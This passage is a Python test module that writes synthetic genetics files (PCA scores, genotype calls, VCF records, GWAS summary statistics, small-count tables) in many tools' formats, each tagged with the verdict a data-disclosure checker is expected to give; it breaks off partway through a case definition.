"""The corpus files, one writer per case, from seeded random data (see the package docstring).

The layouts are the tools' own: plink2 headers as plink2 2.0 writes them, plink 1.9's
whitespace-aligned tables, regenie, SAIGE, fastGWA, BOLT-LMM, METAL, GWAMA and GWAS-catalog
column sets, Hail's ``export`` of ``variant_qc``, and pandas' and R's default printing.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import textwrap
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

from tests.checks_corpus.cases import PEOPLE, Case, Expect, sample_ids

#: case -> writer(path, rng)
_WRITERS: dict[str, tuple[Case, Callable[[Path, np.random.Generator], object]]] = {}


def case(name: str, expect: Expect, why: str, group: str, pending: str = ""):
    def register(writer):
        _WRITERS[name] = (Case(name, expect, why, group, pending), writer)
        return writer

    return register


def write_corpus(directory: Path, names: list[str] | None = None) -> list[Case]:
    """Write the corpus (or the cases ``names``) into ``directory``; the cases written."""
    written = []
    for i, (name, (c, writer)) in enumerate(_WRITERS.items()):
        if names is not None and name not in names:
            continue
        rng = np.random.default_rng(1000 + i)
        path = directory / name
        content = writer(path, rng)
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8")
        elif isinstance(content, bytes):
            path.write_bytes(content)
        written.append(c)
    return written


def _header(names: str) -> list[str]:
    return names.split()


def _tsv(rows, sep: str = "\t") -> str:
    return "".join(sep.join(str(v) for v in r) + "\n" for r in rows)


def _aligned(rows) -> str:
    """plink 1.9's right-aligned, space-padded columns."""
    rows = [[str(v) for v in r] for r in rows]
    widths = [max(len(r[j]) for r in rows) + 2 for j in range(len(rows[0]))]
    return "".join("".join(v.rjust(w) for v, w in zip(r, widths, strict=True)) + "\n" for r in rows)


def _genotypes(rng, people: int, variants: int) -> np.ndarray:
    p = rng.uniform(0.05, 0.5, variants)
    return rng.binomial(2, p, size=(people, variants))


def _scores(rng, people: int = PEOPLE, k: int = 10) -> np.ndarray:
    return np.round(rng.normal(0, 0.05, size=(people, k)), 6)


def _variants(rng, n: int, chrom: int = 22) -> tuple[list[int], list[str]]:
    pos = np.sort(rng.choice(np.arange(16_000_000, 51_000_000), n, replace=False)).tolist()
    ids = [f"rs{int(x)}" for x in rng.choice(np.arange(10_000, 90_000_000), n, replace=False)]
    return pos, ids


def _alleles(rng, n: int) -> tuple[list[str], list[str]]:
    pairs = [("A", "G"), ("C", "T"), ("G", "A"), ("T", "C"), ("A", "C"), ("G", "T")]
    chosen = [pairs[i] for i in rng.integers(0, len(pairs), n)]
    return [a for a, _ in chosen], [b for _, b in chosen]


def _frequencies(rng, n: int, low: float = 0.05) -> np.ndarray:
    return np.round(rng.uniform(low, 0.5, n), 6)


# -- individual-level data in unexpected shapes ------------------------------------------------

I = "individual"  # noqa: E741


@case("pcs_without_ids.csv", Expect.BLOCK, "PC1..PC10 per person, no ID column", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng), columns=[f"PC{k}" for k in range(1, 11)])
    frame.to_csv(path, index=False)


@case("pcs_with_n_column.csv", Expect.BLOCK, "per-person PCs with an extra n_* column", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng, k=4), columns=["PC1", "PC2", "PC3", "PC4"])
    frame.insert(0, "n_missing", rng.integers(0, 40, PEOPLE))
    frame.to_csv(path, index=False)


@case("pca_fit_transform.csv", Expect.BLOCK, "DataFrame(pca.fit_transform(X)).to_csv()", I)
def _(path, rng):
    pd.DataFrame(_scores(rng)).to_csv(path)


@case("pca_fit_transform_noindex.csv", Expect.BLOCK, "unlabelled scores, index=False", I)
def _(path, rng):
    pd.DataFrame(_scores(rng, k=6)).to_csv(path, index=False)


@case("umap.csv", Expect.BLOCK, "UMAP coordinates per person", I)
def _(path, rng):
    pd.DataFrame(np.round(rng.normal(0, 3, (PEOPLE, 2)), 4), columns=["UMAP1", "UMAP2"]).to_csv(
        path, index=False
    )


@case("umap_subset.tsv", Expect.BLOCK, "2-D embedding of 240 people with a cluster label", I)
def _(path, rng):
    frame = pd.DataFrame(np.round(rng.normal(0, 3, (240, 2)), 4), columns=["dim1", "dim2"])
    frame["cluster"] = rng.integers(0, 4, 240)
    frame.to_csv(path, index=False, sep="\t")


@case("prs_psam_order.tsv", Expect.BLOCK, "a polygenic score per person in .psam order", I)
def _(path, rng):
    pd.DataFrame({"SCORE1_AVG": np.round(rng.normal(0, 1e-3, PEOPLE), 8)}).to_csv(
        path, index=False, sep="\t"
    )


@case("prs_plain.txt", Expect.BLOCK, "one score per line, no header", I)
def _(path, rng):
    return "".join(f"{v:.6f}\n" for v in rng.normal(0, 1, PEOPLE))


@case("residuals_subset.csv", Expect.BLOCK, "model residuals of 280 people", I)
def _(path, rng):
    pd.DataFrame({"residual": np.round(rng.normal(0, 1, 280), 5)}).to_csv(path, index=False)


@case("pheno_people_as_columns.csv", Expect.BLOCK, "phenotypes with people as columns", I)
def _(path, rng):
    people = [f"P{j:04d}" for j in range(1, PEOPLE + 1)]
    frame = pd.DataFrame(np.round(rng.normal(3, 1, (4, PEOPLE)), 2), columns=people)
    frame.insert(0, "trait", ["ldl", "hdl", "bmi", "sbp"])
    frame.to_csv(path, index=False)


@case("few_genotypes_and_phenotype.csv", Expect.BLOCK, "three genotypes and LDL per person", I)
def _(path, rng):
    frame = pd.DataFrame(_genotypes(rng, PEOPLE, 3), columns=["rs4988235", "rs1801133", "rs7412"])
    frame["ldl"] = np.round(rng.normal(3.4, 0.8, PEOPLE), 2)
    frame.to_csv(path, index=False)


@case("dosages_people_rows.csv", Expect.BLOCK, "imputed dosages, people as rows", I)
def _(path, rng):
    g = _genotypes(rng, PEOPLE, 8) + rng.normal(0, 0.03, (PEOPLE, 8))
    names = [f"22:{p}:A:G" for p in _variants(rng, 8)[0]]
    pd.DataFrame(np.round(np.clip(g, 0, 2), 3), columns=names).to_csv(path, index=False)


@case("dosages_variant_rows.tsv", Expect.BLOCK, "imputed dosages, 40 people as columns", I)
def _(path, rng):
    g = _genotypes(rng, 40, 200).T + rng.normal(0, 0.03, (200, 40))
    frame = pd.DataFrame(np.round(np.clip(g, 0, 2), 3), columns=[f"s{j}" for j in range(40)])
    frame.insert(0, "ID", _variants(rng, 200)[1])
    frame.to_csv(path, index=False, sep="\t")


@case("genotypes_012_dot.csv", Expect.BLOCK, "0/1/2 calls with '.' for missing", I)
def _(path, rng):
    g = _genotypes(rng, 30, 40).T.astype(object)
    g[rng.random(g.shape) < 0.03] = "."
    frame = pd.DataFrame(g, columns=[f"i{j}" for j in range(30)])
    frame.insert(0, "snp", _variants(rng, 40)[1])
    frame.to_csv(path, index=False)


@case("nucleotide_calls.csv", Expect.BLOCK, "AG/GG calls, people as rows", I)
def _(path, rng):
    g = _genotypes(rng, PEOPLE, 6)
    calls = np.array(["AA", "AG", "GG"])[g]
    pd.DataFrame(calls, columns=[f"snp{k}" for k in range(6)]).to_csv(path, index=False)


@case("nucleotide_calls_slash.tsv", Expect.BLOCK, "A/G calls, 12 people as columns", I)
def _(path, rng):
    g = _genotypes(rng, 12, 50).T
    calls = np.array(["C/C", "C/T", "T/T"])[g]
    frame = pd.DataFrame(calls, columns=[f"person{j}" for j in range(12)])
    frame.insert(0, "marker", _variants(rng, 50)[1])
    frame.to_csv(path, index=False, sep="\t")


@case("haplotypes_phased.tsv", Expect.BLOCK, "phased 0|1 calls of three SNPs per person", I)
def _(path, rng):
    h = rng.integers(0, 2, (PEOPLE, 3, 2))
    calls = [[f"{a}|{b}" for a, b in row] for row in h]
    pd.DataFrame(calls, columns=["rs1", "rs2", "rs3"]).to_csv(path, index=False, sep="\t")


@case("haplotype_bits.txt", Expect.BLOCK, "a haplotype bit string per variant", I)
def _(path, rng):
    lines = []
    for vid in _variants(rng, 30)[1]:
        bits = "".join(map(str, rng.integers(0, 2, 2 * PEOPLE)))
        lines.append(f"{vid} {bits}\n")
    return "".join(lines)


@case("genotype_string_per_variant.tsv", Expect.BLOCK, "one genotype string per variant", I)
def _(path, rng):
    g = _genotypes(rng, PEOPLE, 25).T
    rows = [["ID", "GENOTYPES"]] + [
        [vid, "".join(map(str, row))] for vid, row in zip(_variants(rng, 25)[1], g, strict=True)
    ]
    return _tsv(rows)


def _vcf_records(rng, n: int, people: int) -> list[str]:
    pos, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    g = _genotypes(rng, people, n).T
    calls = np.array(["0/0", "0/1", "1/1"])
    return [
        "\t".join(["22", str(p), i, r, a, ".", "PASS", ".", "GT", *calls[row]])
        for p, i, r, a, row in zip(pos, ids, ref, alt, g, strict=True)
    ]


@case("vcf_body.tsv", Expect.BLOCK, "VCF records without a header", I)
def _(path, rng):
    return "\n".join(_vcf_records(rng, 20, 10)) + "\n"


@case("vcf_contig.txt", Expect.BLOCK, "a VCF starting with ##contig", I)
def _(path, rng):
    header = "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\t" + "\t".join(
        sample_ids("dk", 10)
    )
    return (
        "##contig=<ID=22,length=50818468>\n"
        + header
        + "\n"
        + "\n".join(_vcf_records(rng, 15, 10))
        + "\n"
    )


@case("notes_with_vcf.md", Expect.BLOCK, "notes with VCF records pasted in", I)
def _(path, rng):
    records = "\n".join(_vcf_records(rng, 4, 6))
    return (
        "# Odd sites\n\nThese calls looked strange in the QC; pasted for the record:\n\n"
        f"```\n{records}\n```\n\nWe will look at them again next week.\n"
    )


@case("pcs.parquet", Expect.BLOCK, "a Parquet list column of PCs per person", I)
def _(path, rng):
    import pyarrow as pa
    import pyarrow.parquet as pq

    scores = _scores(rng)
    table = pa.table({"pcs": pa.array([list(r) for r in scores], pa.list_(pa.float64()))})
    pq.write_table(table, path)


@case("genotypes_list.parquet", Expect.BLOCK, "per-variant genotype vectors as lists", I)
def _(path, rng):
    import pyarrow as pa
    import pyarrow.parquet as pq

    g = _genotypes(rng, PEOPLE, 30).T.astype("int8")
    table = pa.table(
        {"id": _variants(rng, 30)[1], "gt": pa.array([list(r) for r in g], pa.list_(pa.int8()))}
    )
    pq.write_table(table, path)


@case("pcs_struct.parquet", Expect.BLOCK, "a Parquet struct column of PCs per person", I)
def _(path, rng):
    import pyarrow as pa
    import pyarrow.parquet as pq

    s = _scores(rng, k=2)
    struct = pa.StructArray.from_arrays([pa.array(s[:, 0]), pa.array(s[:, 1])], ["pc1", "pc2"])
    pq.write_table(pa.table({"scores": struct, "cohort": ["dk"] * PEOPLE}), path)


@case("pcs_lists.json", Expect.BLOCK, "a JSON list of lists of PCs", I)
def _(path, rng):
    return json.dumps(_scores(rng, k=3).tolist())


@case("genotypes_dict.json", Expect.BLOCK, "a JSON dict of genotype strings per variant", I)
def _(path, rng):
    g = _genotypes(rng, PEOPLE, 20).T
    ids = _variants(rng, 20)[1]
    return json.dumps({vid: "".join(map(str, row)) for vid, row in zip(ids, g, strict=True)})


@case("calls_by_person.json", Expect.BLOCK, "a JSON dict of one call per pseudonymous person", I)
def _(path, rng):
    calls = np.array(["AA", "AG", "GG"])[_genotypes(rng, PEOPLE, 1)[:, 0]]
    return json.dumps({f"P{j:04d}": c for j, c in enumerate(calls, start=1)}, indent=1)


@case("people_table.md", Expect.BLOCK, "a Markdown table of people with sample IDs", I)
def _(path, rng):
    ids = sample_ids("dk", 20)
    rows = "".join(
        f"| {i} | {a} | {v:.2f} |\n"
        for i, a, v in zip(ids, rng.integers(30, 80, 20), rng.normal(3, 1, 20), strict=True)
    )
    return "# Outliers\n\n| sample | age | ldl |\n|---|---|---|\n" + rows


@case("people_table_noid.md", Expect.BLOCK, "a Markdown table of 300 rows of scores", I)
def _(path, rng):
    s = _scores(rng, k=2)
    rows = "".join(f"| {a} | {b} |\n" for a, b in s)
    return "Scores:\n\n| pc1 | pc2 |\n|---:|---:|\n" + rows


def _packed(rng) -> bytes:
    return np.packbits(_genotypes(rng, PEOPLE, 30) > 0).tobytes()


@case("packed_genotypes_base64.txt", Expect.BLOCK, "base64 of packed genotypes", I)
def _(path, rng):
    blob = base64.b64encode(_packed(rng)).decode()
    return "genotypes:\n" + "\n".join(blob[i : i + 76] for i in range(0, len(blob), 76)) + "\n"


@case("packed_genotypes_hex.txt", Expect.BLOCK, "hex of packed genotypes", I)
def _(path, rng):
    return "data = " + _packed(rng).hex() + "\n"


@case("qc_log_ids_colon.txt", Expect.BLOCK, "sample IDs followed by ':' in a QC log", I)
def _(path, rng):
    ids = sample_ids("se")[:5]
    return "Sample QC\n" + "".join(f"{i}: call rate 0.9{k}, removed\n" for k, i in enumerate(ids))


@case("cram_list.tsv", Expect.BLOCK, "CRAM paths named by sample ID", I)
def _(path, rng):
    rows = [["path", "bytes"]] + [
        [f"/data/crams/{i}.cram", int(x)]
        for i, x in zip(sample_ids("uk", 12), rng.integers(10**9, 4 * 10**9, 12), strict=True)
    ]
    return _tsv(rows)


@case("fid_iid.csv", Expect.BLOCK, "FID_IID keys of people", I)
def _(path, rng):
    keys = [f"{i}_{i}" for i in sample_ids("dk", 15)]
    return _tsv([["key", "status"]] + [[k, "case"] for k in keys], ",")


@case("plink2.smiss", Expect.BLOCK, "plink2 --missing per sample", I)
def _(path, rng):
    rows = [["#IID", "MISSING_CT", "OBS_CT", "F_MISS"]] + [
        [i, m, 2000, round(m / 2000, 6)]
        for i, m in zip(sample_ids("dk"), rng.integers(0, 90, PEOPLE), strict=True)
    ]
    return _tsv(rows)


@case("plink2.eigenvec", Expect.BLOCK, "plink2 --pca scores", I)
def _(path, rng):
    s = _scores(rng, k=5)
    rows = [["#IID", "PC1", "PC2", "PC3", "PC4", "PC5"]] + [
        [i, *r] for i, r in zip(sample_ids("se"), s, strict=True)
    ]
    return _tsv(rows)


@case("plink19.eigenvec", Expect.BLOCK, "plink 1.9 --pca scores, no header", I)
def _(path, rng):
    s = _scores(rng, k=4)
    return "".join(
        f"{i} {i} " + " ".join(map(str, r)) + "\n" for i, r in zip(sample_ids("uk"), s, strict=True)
    )


@case("king.kin0", Expect.BLOCK, "pairs of related people", I)
def _(path, rng):
    ids = sample_ids("dk", 40)
    rows = [["#IID1", "IID2", "NSNP", "HETHET", "IBS0", "KINSHIP"]] + [
        [ids[k], ids[k + 1], 9000, 0.1, 0.01, round(float(rng.uniform(0.1, 0.3)), 4)]
        for k in range(0, 39, 2)
    ]
    return _tsv(rows)


@case("plink2.sscore", Expect.BLOCK, "plink2 --score per person", I)
def _(path, rng):
    rows = [["#IID", "ALLELE_CT", "NAMED_ALLELE_DOSAGE_SUM", "SCORE1_AVG"]] + [
        [i, 2000, int(rng.integers(300, 700)), round(float(rng.normal(0, 1e-3)), 8)]
        for i in sample_ids("dk")
    ]
    return _tsv(rows)


@case("plink19.het", Expect.BLOCK, "plink 1.9 --het per person", I)
def _(path, rng):
    rows = [["FID", "IID", "O(HOM)", "E(HOM)", "N(NM)", "F"]] + [
        [i, i, int(rng.integers(900, 1000)), 950.3, 1800, round(float(rng.normal(0, 0.02)), 5)]
        for i in sample_ids("se", 50)
    ]
    return _aligned(rows)


@case("plink_export.raw", Expect.BLOCK, "plink --export A", I)
def _(path, rng):
    g = _genotypes(rng, 40, 12)
    header = ["FID", "IID", "PAT", "MAT", "SEX", "PHENOTYPE", *[f"snp{k}_A" for k in range(12)]]
    rows = [header] + [[0, f"per{j}", 0, 0, 1 + j % 2, -9, *g[j]] for j in range(40)]
    return _tsv(rows, " ")


@case("pcs_notebook.ipynb", Expect.BLOCK, "a notebook showing per-person PCs with IDs", I)
def _(path, rng):
    import nbformat

    frame = pd.DataFrame(_scores(rng, PEOPLE, 2), columns=["PC1", "PC2"], index=sample_ids("dk"))
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("pcs.head(20)")
    cell.outputs = [
        nbformat.v4.new_output(
            "execute_result",
            data={"text/html": frame.head(20).to_html(), "text/plain": frame.head(20).to_string()},
            execution_count=1,
        )
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# PCA"), cell]
    return nbformat.writes(nb)


@case("pcs_table.html", Expect.BLOCK, "an HTML table of per-person PCs", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng, k=3), columns=["PC1", "PC2", "PC3"])
    return "<html><body><h1>PCs</h1>" + frame.to_html() + "</body></html>\n"


@case("prs_latex.tex", Expect.BLOCK, "a LaTeX table of scores per person", I)
def _(path, rng):
    rows = "".join(f"{j} & {v:.4f} \\\\\n" for j, v in enumerate(rng.normal(0, 1, PEOPLE), 1))
    return "\\begin{tabular}{rr}\n\\hline\nrow & score \\\\\n\\hline\n" + rows + "\\end{tabular}\n"


@case("r_head_people.txt", Expect.BLOCK, "R's print of a data frame of people", I)
def _(path, rng):
    ids = sample_ids("uk", 6)
    lines = ["> head(pheno)", "       IID age sex  ldl"]
    for k, i in enumerate(ids, 1):
        lines.append(f"{k} {i}  {int(rng.integers(30, 80))}   {k % 2 + 1} {rng.normal(3, 1):.2f}")
    return "\n".join(lines) + "\n"


@case("pcs_transposed.csv", Expect.BLOCK, "PCs with people as columns", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng, k=5).T, index=[f"PC{k}" for k in range(1, 6)])
    frame.to_csv(path)


@case("excluded_ids.json", Expect.BLOCK, "a JSON list of excluded sample IDs", I)
def _(path, rng):
    return json.dumps({"reason": "relatedness", "excluded": sample_ids("se")[10:25]})


@case("umap_pipe.txt", Expect.BLOCK, "pipe-delimited coordinates per person", I)
def _(path, rng):
    xy = np.round(rng.normal(0, 3, (PEOPLE, 2)), 4)
    return "x|y\n" + "".join(f"{a}|{b}\n" for a, b in xy)


@case("pcs_semicolon.csv", Expect.BLOCK, "PCs with ';' and decimal commas", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng, k=3), columns=["PC1", "PC2", "PC3"])
    frame.to_csv(path, index=False, sep=";", decimal=",")


@case("phenotypes_ids_as_integers.csv", Expect.BLOCK, "per-person rows keyed 1..300", I)
def _(path, rng):
    frame = pd.DataFrame(
        {
            "row": np.arange(1, PEOPLE + 1),
            "age": rng.integers(30, 80, PEOPLE),
            "ldl": np.round(rng.normal(3.4, 0.8, PEOPLE), 2),
            "statin": rng.integers(0, 2, PEOPLE),
        }
    )
    frame.to_csv(path, index=False)


# -- small counts under other tools' names -----------------------------------------------------

C = "counts"


def _sumstats(rng, n: int):
    pos, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    beta = np.round(rng.normal(0, 0.05, n), 6)
    se = np.round(rng.uniform(0.02, 0.1, n), 6)
    p = np.round(rng.uniform(0.001, 1, n), 6)
    return pos, ids, ref, alt, beta, se, p


@case("saige_step2.txt", Expect.BLOCK, "SAIGE with AC_Allele2 = 3", C)
def _(path, rng):
    n = 20
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    ac = rng.integers(40, 300, n)
    ac[7] = 3
    header = _header(
        "CHR POS MarkerID Allele1 Allele2 AC_Allele2 AF_Allele2 MissingRate BETA SE "
        "Tstat var p.value N"
    )
    rows = [header] + [
        [22, pos[k], ids[k], ref[k], alt[k], ac[k], round(ac[k] / 600, 6), 0, beta[k], se[k],
         round(beta[k] / se[k], 4), 1.2, p[k], PEOPLE]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows, " ")


@case("saige_binary.txt", Expect.BLOCK, "SAIGE with AF_case x N_case = 3", C)
def _(path, rng):
    n = 12
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    af_case = _frequencies(rng, n, 0.1)
    af_case[4] = 0.01  # 0.01 x 2 x 150 = 3 copies in cases
    header = _header(
        "CHR POS MarkerID Allele1 Allele2 AC_Allele2 AF_Allele2 MissingRate "
        "BETA SE Tstat var p.value p.value.NA Is.SPA AF_case AF_ctrl N_case "
        "N_ctrl"
    )
    rows = [header] + [
        [22, pos[k], ids[k], ref[k], alt[k], 120, 0.2, 0, beta[k], se[k], 0.5, 1.1, p[k], p[k],
         "FALSE", af_case[k], 0.2, 150, 150]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows, "\t")


@case("fastgwa.fastGWA", Expect.BLOCK, "fastGWA with AF1 x 2N = 3", C)
def _(path, rng):
    n = 15
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    af = _frequencies(rng, n)
    af[9] = 0.005
    rows = [["CHR", "SNP", "POS", "A1", "A2", "N", "AF1", "BETA", "SE", "P"]] + [
        [22, ids[k], pos[k], alt[k], ref[k], PEOPLE, af[k], beta[k], se[k], p[k]] for k in range(n)
    ]
    return _tsv(rows)


@case("hail_variant_qc.tsv", Expect.BLOCK, "Hail variant_qc.AC arrays with a 4", C)
def _(path, rng):
    n = 10
    pos, _ = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    alts = rng.integers(60, 300, n)
    alts[3] = 4
    rows = [["locus", "alleles", "variant_qc.AC", "variant_qc.AF", "variant_qc.AN",
             "variant_qc.homozygote_count", "variant_qc.call_rate"]] + [
        [f"chr22:{pos[k]}", json.dumps([ref[k], alt[k]]), f"[{600 - alts[k]},{alts[k]}]",
         f"[{(600 - alts[k]) / 600:.4f},{alts[k] / 600:.4f}]", 600, f"[{200},{30}]", 1.0]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("plink19.frq.counts", Expect.BLOCK, "plink 1.9 --freq counts with C1 = 3", C)
def _(path, rng):
    n = 12
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    c1 = rng.integers(50, 300, n)
    c1[5] = 3
    rows = [["CHR", "SNP", "A1", "A2", "C1", "C2", "G0"]] + [
        [22, ids[k], alt[k], ref[k], c1[k], 600 - c1[k], 0] for k in range(n)
    ]
    return _aligned(rows)


@case("plink19.hwe", Expect.BLOCK, "plink 1.9 --hardy GENO with one homozygote", C)
def _(path, rng):
    n = 10
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    rows = [["CHR", "SNP", "TEST", "A1", "A2", "GENO", "O(HET)", "E(HET)", "P"]]
    for k in range(n):
        geno = "1/20/279" if k == 6 else f"{30 + k}/{120}/{150 - k}"
        rows.append([22, ids[k], "ALL", alt[k], ref[k], geno, 0.4, 0.41, 0.8])
    return _aligned(rows)


@case("carrier_frequency.csv", Expect.BLOCK, "carrier frequencies that, times N, are 3", C)
def _(path, rng):
    return "gene,carrier_frequency,n_tested\nBRCA1,0.01,300\nBRCA2,0.05,300\nCHEK2,0.2,300\n"


@case("table1_n_pct.csv", Expect.BLOCK, "Table 1 with '3 (42.9)' cells", C)
def _(path, rng):
    return (
        "characteristic,cases,controls\n"
        "N,7,250\n"
        "female,3 (42.9),120 (48.0)\n"
        "smoker,4 (57.1),60 (24.0)\n"
        "age mean (SD),54.2 (8.1),51.0 (9.3)\n"
    )


@case("table1_transposed.csv", Expect.BLOCK, "Table 1 with counts in a row named N", C)
def _(path, rng):
    return (
        ",cases,controls,total\nN,6,245,251\nage_mean,55.1,50.2,50.3\nfemale_pct,50.0,48.2,48.2\n"
    )


@case("group_sizes.csv", Expect.BLOCK, "group_size of 4", C)
def _(path, rng):
    return "cluster,group_size,mean_bmi\n1,120,27.1\n2,4,31.5\n3,85,25.9\n"


@case("pct_with_denominator.csv", Expect.BLOCK, "5% of 40 people = 2", C)
def _(path, rng):
    return "group,N,smokers_pct\nunder 40,40,5.0\n40 to 60,120,22.5\nover 60,95,30.5\n"


@case("suppressed_margins.csv", Expect.BLOCK, "a suppressed cell recoverable from the total", C)
def _(path, rng):
    return "region,2021,2022,Total\nnorth,50,[c],55\nsouth,40,35,75\nTotal,90,40,130\n"


@case("age_extremes.csv", Expect.FLAG, "minimum and maximum ages per group", C)
def _(path, rng):
    return "group,n,mean_age,min_age,max_age\ncases,120,54.1,23,91\ncontrols,250,51.2,19,88\n"


@case("describe.csv", Expect.BLOCK, "pandas describe() with a count of 7", C)
def _(path, rng):
    frame = pd.DataFrame({"age": rng.integers(20, 80, 7), "ldl": rng.normal(3, 1, 7)})
    frame.describe().to_csv(path)


@case("counts_pipe.txt", Expect.BLOCK, "pipe-delimited counts with a 3", C)
def _(path, rng):
    return "region|n\nnorth|55\nsouth|3\neast|40\n"


@case("r_table_console.txt", Expect.BLOCK, "R table() output with a 3", C)
def _(path, rng):
    return (
        "> table(pheno$region, pheno$status)\n"
        "       \n"
        "        case control\n"
        "  east    25      40\n"
        "  north    3      55\n"
        "  south   30      35\n"
    )


@case("counts_latex.tex", Expect.BLOCK, "a LaTeX table of counts with a 4", C)
def _(path, rng):
    return (
        "\\begin{table}\n\\centering\n\\begin{tabular}{lrr}\n\\toprule\n"
        "Region & Cases & Controls \\\\\n\\midrule\n"
        "North & 4 & 55 \\\\\nSouth & 30 & 35 \\\\\n\\bottomrule\n\\end{tabular}\n\\end{table}\n"
    )


@case("counts_markdown.md", Expect.BLOCK, "a Markdown table of counts with a 2", C)
def _(path, rng):
    return (
        "## Counts\n\n| region | cases | controls |\n|---|---:|---:|\n"
        "| north | 2 | 55 |\n| south | 30 | 35 |\n"
    )


@case("glm_summary_r.txt", Expect.BLOCK, "R glm summary 'on 6  degrees of freedom'", C)
def _(path, rng):
    return (
        "Call:\nglm(formula = case ~ age + sex, family = binomial, data = d)\n\n"
        "Coefficients:\n"
        "            Estimate Std. Error z value Pr(>|z|)\n"
        "(Intercept) -1.20000    2.10000  -0.571    0.568\n"
        "age          0.03000    0.04000   0.750    0.453\n"
        "sex          0.50000    1.20000   0.417    0.677\n\n"
        "    Null deviance: 12.217  on 8  degrees of freedom\n"
        "Residual deviance: 11.090  on 6  degrees of freedom\n"
        "AIC: 17.09\n"
    )


@case("crosstab_with_p.csv", Expect.BLOCK, "an unnamed crosstab with a p-value column", C)
def _(path, rng):
    return "region,2021,2022,p_value\nnorth,55,3,0.01\nsouth,40,35,0.5\n"


@case("late_small_count.csv", Expect.BLOCK, "a small count after 5 MB, one odd row first", C)
def _(path, rng):
    n = 250_000
    frame = pd.DataFrame(
        {
            "region": rng.choice(["north", "south", "east", "west"], n),
            "year": rng.integers(2000, 2024, n),
            "category": [f"c{i}" for i in rng.integers(0, 500, n)],
            "patients": rng.integers(2, 400, n) * 5,
        }
    )
    text = frame.to_csv(index=False)
    lines = text.splitlines(keepends=True)
    lines[1] = "north,2001,c1,12.5\n"  # one value that is not a whole number
    return "".join(lines) + "isles,2023,c7,3\n"


@case("gwama.out", Expect.BLOCK, "GWAMA with n_samples = 8", C)
def _(path, rng):
    n = 10
    _, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    header = _header(
        "rs_number reference_allele other_allele eaf beta se beta_95L beta_95U "
        "z p-value _-log10_p-value q_statistic q_p-value i2 n_studies n_samples "
        "effects"
    )
    rows = [header] + [
        [ids[k], alt[k], ref[k], 0.3, beta[k], se[k], beta[k] - 0.1, beta[k] + 0.1, 1.1, p[k],
         1.2, 0.5, 0.7, 0, 3, 8 if k == 2 else 5000, "+-+"]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("metal.tbl", Expect.BLOCK, "METAL with Freq1 x 2N = 4", C)
def _(path, rng):
    n = 10
    _, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    freq = _frequencies(rng, n)
    freq[1] = 0.01
    header = _header(
        "MarkerName Allele1 Allele2 Freq1 FreqSE MinFreq MaxFreq Effect StdErr "
        "P-value Direction TotalSampleSize"
    )
    rows = [header] + [
        [ids[k], alt[k].lower(), ref[k].lower(), freq[k], 0.01, freq[k], freq[k], beta[k], se[k],
         p[k], "++", 200]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("gwas_catalog.tsv", Expect.BLOCK, "GWAS-catalog sumstats with EAF x 2n = 6", C)
def _(path, rng):
    n = 10
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    eaf = _frequencies(rng, n)
    eaf[8] = 0.01
    header = _header(
        "chromosome base_pair_location effect_allele other_allele beta "
        "standard_error effect_allele_frequency p_value rsid n"
    )
    rows = [header] + [
        [22, pos[k], alt[k], ref[k], beta[k], se[k], eaf[k], p[k], ids[k], PEOPLE] for k in range(n)
    ]
    return _tsv(rows)


@case("regenie_small.regenie", Expect.BLOCK, "regenie with A1FREQ x 2N = 3", C)
def _(path, rng):
    n = 10
    pos, ids, ref, alt, beta, se, _p = _sumstats(rng, n)
    freq = _frequencies(rng, n)
    freq[0] = 0.005
    header = "CHROM GENPOS ID ALLELE0 ALLELE1 A1FREQ INFO N TEST BETA SE CHISQ LOG10P EXTRA"
    rows = [header.split()] + [
        [22, pos[k], ids[k], ref[k], alt[k], freq[k], 1, PEOPLE, "ADD", beta[k], se[k], 1.2,
         0.3, "NA"]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows, " ")


@case("bcftools_ac_an.tsv", Expect.BLOCK, "bcftools query AC/AN with AC = 2", C)
def _(path, rng):
    n = 10
    _, ids = _variants(rng, n)
    ac = rng.integers(30, 300, n)
    ac[4] = 2
    return _tsv([["# [1]ID", "[2]AC", "[3]AN"]] + [[ids[k], ac[k], 600] for k in range(n)])


@case("plink2_small.gcount", Expect.BLOCK, "plink2 --geno-counts with one homozygote", C)
def _(path, rng):
    n = 8
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    header = _header(
        "#CHROM ID REF ALT HOM_REF_CT HET_REF_ALT_CTS TWO_ALT_GENO_CTS "
        "HAP_REF_CT HAP_ALT_CTS MISSING_CT"
    )
    rows = [header] + [
        [22, ids[k], ref[k], alt[k], 150, 100 if k != 3 else 40, 50 if k != 3 else 1, 0, 0, 0]
        for k in range(n)
    ]
    return _tsv(rows)


@case("plink2_small_n.glm.linear", Expect.BLOCK, "plink2 --glm with OBS_CT = 8", C)
def _(path, rng):
    return _glm_linear(rng, 30, small_n_row=11)


@case("genotype_count_table.csv", Expect.BLOCK, "people per genotype with a 5", C)
def _(path, rng):
